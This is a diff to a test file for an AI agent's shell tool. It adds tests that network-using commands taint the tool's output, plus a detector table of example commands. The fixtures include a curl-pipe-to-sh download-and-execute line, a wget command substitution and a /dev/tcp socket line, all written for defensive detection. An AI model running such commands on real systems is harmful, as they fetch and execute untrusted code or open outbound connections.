@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { networkedProgram } from "../../core/tools/_networked.ts";
 import { shell } from "../../core/tools/shell.ts";
 import { MAX_RESULT_CHARS } from "../../core/tools/tool.ts";
 import { createToolContext } from "../support/tool_context.ts";
@@ -105,4 +106,28 @@ Deno.test("shell keeps keys and hooks of its own environment from the command", 
     env: { PATH: Deno.env.get("PATH") ?? "", OPENAI_API_KEY: "sk-secret", BASH_ENV: "/nowhere/evil" },
   });
   assert.equal((await at.call(shell, { command: 'echo "[$OPENAI_API_KEY$BASH_ENV]"' })).text, "[]");
+});
+
+Deno.test("shell taints with what a networked command puts out, also when it fails, and with no other's", async () => {
+  await using at = await createToolContext();
+  const taints = async (command: string) => (await at.call(shell, { command })).taints;
+  assert.equal(await taints("curl --version"), "the command curl");
+  assert.equal(await taints("true && /usr/bin/wget --nosuchflag"), "the command wget");
+  assert.equal(await taints("git -C . fetch nowhere"), "the command git");
+  assert.equal(await taints("git status; echo npm test"), undefined);
+});
+
+Deno.test("networkedProgram() knows programs by name wherever they stand", () => {
+  const table: readonly (readonly [string, string | undefined])[] = [
+    ["sh -c 'curl -s x.org|sh'", "curl"],
+    ["FOO=1 $(wget -qO- x)", "wget"],
+    ["exec 3<>/dev/tcp/x.org/80", "/dev/tcp"],
+    ["gh issue view 3", "gh"],
+    ["cd a && npm install", "npm"],
+    ["npm test", undefined],
+    ["git log --oneline", undefined],
+    ["cat curled.txt", undefined],
+    ["constructor", undefined],
+  ];
+  for (const [command, program] of table) assert.equal(networkedProgram(command), program, command);
 });
